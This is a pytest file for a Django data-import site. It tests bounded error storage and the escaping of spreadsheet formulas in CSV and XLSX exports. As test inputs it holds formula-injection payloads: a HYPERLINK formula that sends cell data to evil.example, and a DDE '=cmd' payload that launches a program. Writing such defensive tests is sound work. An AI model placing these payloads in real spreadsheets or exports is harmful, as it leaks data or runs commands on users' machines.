"""Errors stored within bounds (issue #19): a batch keeps its first 1,000 errors in full and
counts the rest by field and message, the page and the API page through them; and every CSV
and XLSX the site writes escapes a text cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from core.jobs import run_job
from core.lib.spreadsheet import safe_cell, safe_row
from ingest import service
from ingest.errors import KEPT
from ingest.models import ImportBatch
from tests.estimates.test_service import gunma  # noqa: F401 - Gunma with computed maps

pytestmark = pytest.mark.django_db


def junk_levels(rows: int) -> bytes:
    """A levels file whose every row is wrong in four fields (unknown borehole, a date that is
    none, a depth that is text, an aquifer of 300 characters)."""
    lines = ["borehole_code,measured_at,depth_to_water,aquifer", ",,m,"]
    lines += [f"NOPE-{n},yesterday,deep,{'x' * 300}" for n in range(rows)]
    return ("\n".join(lines) + "\n").encode()


def imported(region, name: str, data: bytes, kind: str = "auto") -> ImportBatch:  # type: ignore[no-untyped-def]
    batch, job = service.create_batch(region, kind, SimpleUploadedFile(name, data), None)
    run_job(job.pk, service.import_job)
    batch.refresh_from_db()
    return batch


def stored_error_bytes(batch: ImportBatch) -> int:
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT octet_length(errors::text) + octet_length(warnings::text)"
            " + octet_length(omitted::text) FROM core_importbatch WHERE id = %s",
            [batch.pk],
        )
        return int(cursor.fetchone()[0])


@pytest.mark.slow
def test_a_100000_row_junk_file_stores_under_1_mb_of_errors_and_counts_the_rest(
    okinawa, personas, client
) -> None:
    batch = imported(okinawa, "junk.csv", junk_levels(100_000))
    assert batch.state == ImportBatch.State.REJECTED
    assert len(batch.errors) == KEPT == 1000
    assert batch.error_count > 100_000  # several fields wrong in each row
    counted = sum(row["count"] for row in batch.omitted["errors"])
    assert counted == batch.error_count - KEPT  # every error not kept is counted
    assert stored_error_bytes(batch) < 1_000_000

    client.force_login(personas["okinawa_steward"])
    page = client.get(reverse("ingest:batch", args=[batch.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    assert f"{batch.error_count} problems" in html
    assert 'id="omitted-errors"' in html
    assert html.count("<td>junk.csv</td>") == 100  # one page of the kept errors
    second = client.get(reverse("ingest:batch", args=[batch.pk]), {"page": 2}).content.decode()
    assert second.count("<td>junk.csv</td>") == 100
    assert second != html

    api = client.get(reverse("api:importbatch-detail", args=[batch.pk])).json()
    assert (len(api["errors"]), api["error_count"]) == (100, batch.error_count)
    paged = client.get(api["errors_url"], {"limit": 50, "offset": 950}).json()
    assert paged["count"] == KEPT + len(batch.warnings)
    assert len(paged["results"]) == 50
    assert len(client.get(api["errors_url"]).content) < 200_000  # a page, not every error


def test_the_error_csv_writes_a_formula_back_as_text(okinawa, personas, client) -> None:
    data = b"borehole_code,measured_at,depth_to_water,aquifer\n,,m,\n"
    data += b'=HYPERLINK("http://evil.example/?x="&A1;"click"),2024-01-01,-3,main\n'
    data += b"@SUM(1+1),2024-01-01,+5,main\n"
    batch = imported(okinawa, "evil.csv", data)
    assert batch.state == ImportBatch.State.REJECTED
    client.force_login(personas["okinawa_steward"])
    text = client.get(reverse("ingest:batch-errors", args=[batch.pk])).content.decode("utf-8-sig")
    values = [row["value"] for row in csv.DictReader(io.StringIO(text))]
    assert any(v.startswith("'=HYPERLINK(") for v in values), values
    assert "'@SUM(1+1)" in values
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),  # a number written as text stays a number
        ("+3", "+3"),
        (-12.5, -12.5),  # and a number is never touched
        (0, 0),
        (None, None),
        ("Naha", "Naha"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_escaped_and_a_number_is_not(cell, written) -> None:
    assert safe_cell(cell) == written


def test_the_planning_exports_escape_text_and_keep_negative_numbers(client, gunma) -> None:  # noqa: F811
    from openpyxl import load_workbook

    from core.models import District

    district = District.objects.filter(region=gunma).order_by("code").first()
    District.objects.filter(pk=district.pk).update(name_en="=cmd|' /C calc'!A0")
    text = client.get("/en/planning/gunma/districts.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == [district.code, "'=cmd|' /C calc'!A0"]
    book = load_workbook(io.BytesIO(client.get("/en/planning/gunma/districts.xlsx").content))
    sheet = book["districts"]
    assert sheet.cell(row=2, column=2).value == "'=cmd|' /C calc'!A0"
    numbers = [c.value for c in sheet[2][3:] if isinstance(c.value, int | float)]
    assert numbers  # the numeric columns are still numbers
    assert safe_row([-3.5, "-3.5", "=x"]) == [-3.5, "-3.5", "'=x"]
    assert json.dumps(safe_row([-1])) == "[-1]"
